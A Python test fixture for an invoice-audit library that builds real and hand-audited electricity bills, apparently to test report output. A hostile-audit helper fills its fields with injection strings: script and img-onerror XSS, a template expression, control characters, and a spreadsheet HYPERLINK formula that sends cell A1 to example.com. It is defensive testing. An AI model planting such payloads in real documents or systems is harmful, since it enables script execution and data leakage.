"""Audited invoices for the tests of the reports: real bills, findings made by hand, text that means harm."""

from __future__ import annotations

import json
from collections import Counter, defaultdict
from collections.abc import Iterable, Mapping, Sequence
from functools import cache
from pathlib import Path
from typing import Any

from hv_tariff import identity_of, load_book, read_case
from hv_tariff.audit.findings import Audited, Citation, Diagnosis, Finding, Kind, Rejection, Verdict
from hv_tariff.billing import Bill
from hv_tariff.vocabulary import Label

GOLDEN = Path(__file__).parent / "golden" / "tariff_invoices.jsonl"
SCRIPT = "<script>document.documentElement.dataset.harmed='yes'</script>"
IMAGE = "\"><img src=x onerror=document.documentElement.dataset.harmed='yes'>"
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"open")'
CLOSING = "</script><!--{{ 7 * 7 }}"


@cache
def records() -> Mapping[str, Mapping[str, Any]]:
    lines = GOLDEN.read_text(encoding="utf-8").splitlines()
    return {record["invoice_id"]: record for record in map(json.loads, lines)}


@cache
def computed(invoice: str) -> tuple[Bill, Mapping[str, int]]:
    case = read_case(records()[invoice])
    return case.compute(book=load_book("issued")), case.printed


def audited(
    invoice: str,
    *,
    off: Mapping[str, int] = {},
    as_id: str | None = None,
    issuer: str | None = None,
    diagnosis: Sequence[Diagnosis] = (),
    reason: str = "",
    unread: Sequence[str] = (),
) -> Audited:
    """A real invoice, its lines exact but those named in `off` (printed too high by so much) and `unread`."""
    record = records()[invoice]
    bill, printed = computed(invoice)
    name = invoice if as_id is None else as_id
    of = record["issuer"] if issuer is None else issuer
    findings = []
    for line, amount in printed.items():
        right = amount - off.get(line, 0)
        known = line not in unread
        verdict = Verdict.DIFFERS if line in off else Verdict.EXACT
        findings.append(
            Finding(
                invoice_id=name,
                issuer=of,
                billing_system=record["billing_system"],
                line=line,
                printed=amount,
                recomputed=right if known else None,
                given_printed=right if known else None,
                difference=right - amount if known else None,
                verdict=verdict if known else Verdict.NOT_RECOMPUTABLE,
                reason=reason if line in off or not known else "",
                diagnosis=tuple(diagnosis) if line in off else (),
                citations=(Citation(kind="clause", text=f"general/{line}"),) if line in off else (),
            )
        )
    findings.append(
        Finding(
            invoice_id=name, issuer=of, billing_system=record["billing_system"], line="bill_id_check_digit",
            kind=Kind.CHECK, printed=1, recomputed=1, given_printed=None, difference=0, verdict=Verdict.EXACT,
        )
    )  # fmt: skip
    return Audited(
        invoice_id=name,
        issuer=of,
        billing_system=record["billing_system"],
        findings=tuple(findings),
        inferred=("billed demand taken as 90 % of the contract",) if off else (),
        bill=bill,
    )


FLOOR = Diagnosis(
    hypothesis="measured_not_floored",
    description=Label("no floor of 90 % of the contract demand", "بدون حداقل ۹۰٪ قدرت قراردادی"),
    explains_to_the_rial=True,
    worth=-48_600,
)
MONTH = Diagnosis(
    hypothesis="rate_of_month:1404-06",
    description=Label("the figures of 1404-06", "ارقام ۱۴۰۴/۰۶"),
    explains_to_the_rial=False,
    worth=125_000,
)


def a_small_audit() -> list[Audited]:
    """Ordinary invoices of several issuers: some stand, some differ."""
    names = list(records())
    return [
        audited("A-open-002", off={"reactive": 4_200_000, "fuel": -350}, diagnosis=(FLOOR, MONTH)),
        audited("A-open-003", off={"energy": 918_000}),
        audited("A-open-007", off={"energy": -73_000_000, "transit": 1_000}, diagnosis=(MONTH,)),
        *(audited(name) for name in names[8:20]),
        audited(names[20], unread=("vat",), reason="no figure of 1404-09 is published"),
        audited(names[25], off={"vat": 12}, diagnosis=(FLOOR,)),
    ]


def a_hostile_audit() -> list[Audited]:
    """Invoices whose every text tries to run."""
    ill = Diagnosis(hypothesis=IMAGE, description=Label(CLOSING, CLOSING), explains_to_the_rial=True, worth=1)
    return [
        audited(
            "A-open-002", off={"reactive": 7}, as_id=SCRIPT, issuer=IMAGE, diagnosis=(ill,), reason=CLOSING
        ),
        audited("A-open-003", off={"energy": 7}, as_id=FORMULA, issuer="+1+1", reason=SCRIPT),
        audited("A-open-007", off={"energy": 7}, as_id="a\x00b\ud800\u202e", issuer="@SUM(A1)", reason="-1"),
    ]


HOSTILE_REJECTION = Rejection(where=f"{SCRIPT}.csv:17", invoice_id=FORMULA, reason=IMAGE)
REJECTION = Rejection(where="invoices.csv:17", invoice_id="A-open-099", reason="period.until: no such day")


def summed(audit: Iterable[Audited], *, rejections: Sequence[Rejection] = (REJECTION,)) -> dict[str, Any]:
    """The totals that an audit's summary has of these invoices."""
    verdicts: dict[Kind, Counter[str]] = {kind: Counter() for kind in Kind}
    by_issuer: dict[str, Counter[str]] = defaultdict(Counter)
    by_line: dict[str, Counter[str]] = defaultdict(Counter)
    diagnoses: dict[str, Counter[str]] = defaultdict(Counter)
    invoices = at_stake = 0
    for each in audit:
        invoices += 1
        for finding in each.findings:
            verdicts[finding.kind][finding.verdict.value] += 1
            if finding.verdict is not Verdict.DIFFERS:
                continue
            worth = abs(finding.difference or 0)
            at_stake += worth
            for table, key in ((by_issuer, finding.issuer), (by_line, finding.line)):
                table[key].update(lines=1, at_stake=worth)
            for deviation in finding.diagnosis[:1]:
                diagnoses[deviation.hypothesis].update(lines=1, worth=deviation.worth)
    return {
        "invoices": invoices,
        "rejected": len(rejections),
        "lines": dict(verdicts[Kind.LINE]),
        "checks": dict(verdicts[Kind.CHECK]),
        "at_stake": at_stake,
        "by_issuer": {key: dict(row) for key, row in by_issuer.items()},
        "by_line": {key: dict(row) for key, row in by_line.items()},
        "diagnoses": {key: dict(row) for key, row in diagnoses.items()},
        "rejections": [
            {"where": each.where, "invoice_id": each.invoice_id, "reason": each.reason} for each in rejections
        ],
        "book": {"name": "issued", "fingerprint": load_book("issued").fingerprint},
        "identity": identity_of(load_book("issued")).plain(),
        "revisions": {"supply/hv 1404-02.r2": "a digit was misread"},
        "library": "0.1.0",
    }
